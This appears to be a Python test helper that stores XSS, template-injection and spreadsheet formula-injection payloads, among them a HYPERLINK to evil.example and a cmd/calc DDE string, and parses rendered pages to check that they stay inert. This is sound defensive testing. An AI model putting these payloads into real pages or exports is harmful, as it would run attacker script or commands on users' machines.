"""Texts that would run, hide or break something where a page or a spreadsheet takes them as they are; and a look for
what a page runs. A test stores one of HOSTILE in a field, gets the pages that show it, has `check_inert` look at each,
and sees by `shows` that the words are there."""

from html.parser import HTMLParser

MARK = "h0st1le"
HOSTILE = (
    f'<script>alert("{MARK}")</script>',
    f'"><img src=x onerror={MARK}()>',
    f"' autofocus onfocus='{MARK}()",
    f"</textarea></title></style><svg onload={MARK}()>",
    f"javascript:{MARK}()",
    f'<a href="javascript:{MARK}()">{MARK}</a>',
    f"<iframe srcdoc='<script>{MARK}()</script>'>",
    f"<base href=//{MARK}.example><form action=//{MARK}.example>",
    f"<!-- {MARK} -->",
    f"{{{{ 7 * 7 }}}}{{% raw %}} {MARK}",
    f"{{company.__class__}} %(x)s {MARK}",
    f"&lt;b&gt; {MARK} &amp;#60;",
)
# What a spreadsheet would take for a formula.
FORMULAS = ('=HYPERLINK("http://evil.example","x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1")
FORBIDDEN = {"iframe", "object", "embed", "base", "frame", "applet", "style"}
ADDRESSES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster"}


class _Look(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.words: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        told = {name: value or "" for name, value in attrs}
        if tag in FORBIDDEN or (tag == "script" and not told.get("src", "").startswith("/office/")):
            self.found.append(f"<{tag}>")
        for name, value in told.items():
            self.words.append(value)
            address = value.strip().lower()
            own = address.startswith(("/", "#", "?", "tel:", "sms:", "data:,", "http://127.0.0.1")) or not address
            if (
                name.startswith("on")
                or name in ("style", "srcdoc", "http-equiv")
                or (name in ADDRESSES and not (own and not address.startswith("//")) and MARK in address)
                or (name in ADDRESSES and address.startswith(("javascript:", "vbscript:", "data:text")))
            ):
                self.found.append(f"{tag} {name}={value}")

    def handle_data(self, data: str) -> None:
        self.words.append(data)

    def handle_comment(self, data: str) -> None:
        if MARK in data:
            self.found.append(f"<!--{data}")


def _look(html: str) -> _Look:
    look = _Look()
    look.feed(html)
    look.close()
    return look


def check_inert(html: str) -> None:
    """Raises AssertionError when a page runs, loads or hides anything that is not our own."""
    assert not (found := _look(html).found), found


def shows(html: str, text: str) -> bool:
    """Whether the words are on the page, or in a field of it, to the letter (but for spaces)."""
    words = " ".join(" ".join(_look(html).words).split())
    return " ".join(text.split()) in words
